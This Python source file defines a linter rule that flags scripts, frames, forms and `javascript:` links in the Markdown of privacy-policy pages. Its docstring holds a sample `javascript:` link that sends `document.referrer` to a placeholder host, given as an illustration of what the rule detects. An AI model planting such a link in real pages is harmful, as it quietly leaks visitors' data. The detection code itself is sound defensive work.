"""Something on a page runs or acts by itself: a script, an event attribute, a frame, a form, a `javascript:` link.

## Why it matters
A policy tells its readers what happens to their data. What runs on its pages could send that data away, change the
words that readers see, or hide a right, whatever the model says; and a reviewer who looks at words does not see it.

## Example
`[Contact us](javascript:location='https://example.org/?'+document.referrer)`, or
`<iframe src="https://example.org/form">` in the Markdown of a page.

## How to fix
Write text, lists, tables, pictures and ordinary links. What a page needs beyond these belongs to the templates and
scripts of the site.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from policysite.checking.project.markup import activities
from policysite.model.finding import Finding, Severity
from policysite.model.markup import Element
from policysite.model.page import Page
from policysite.model.project import Project
from policysite.model.rule import Quality, Rule
from policysite.reading.site.markup import PLAIN_ELEMENTS
from policysite.reading.site.page_markup import page_markup

RULE = Rule(
    name="active-content",
    summary="script, event attribute, frame, form, style or `javascript:` link on a page",
    severity=Severity.ERROR,
    quality=Quality.MARKUP,
    explanation=__doc__,
)

_HELP = "write it as text, a list, a table, a picture or a link to an address; or remove it"
_AROUND = frozenset({"", "html", "head", "body"})
_ELEMENT = re.compile(r"[a-z][a-z0-9 -]*")
"""No address between angle brackets, which Markdown makes a link of."""


def check(project: Project) -> Iterator[Finding]:
    """Every element of a page's Markdown that does more than shape text."""
    for pages in project.pages:
        for page in pages.versions:
            for element in page_markup(page):
                yield from _findings(element, page, project.site_url)


def _findings(element: Element, page: Page, home: str) -> Iterator[Finding]:
    found = list(activities(element, home, lambda _: False))
    if not found and _ELEMENT.fullmatch(element.name) and element.name not in PLAIN_ELEMENTS | _AROUND:
        found.append((f"<{element.name}>", "is no element of plain text"))
    for what, does in found:
        yield RULE.finding(
            f"`{what}` on {page.path} {does}",
            help=_HELP,
            at=element.location,
            languages=(page.language,),
            subject=what,
        )
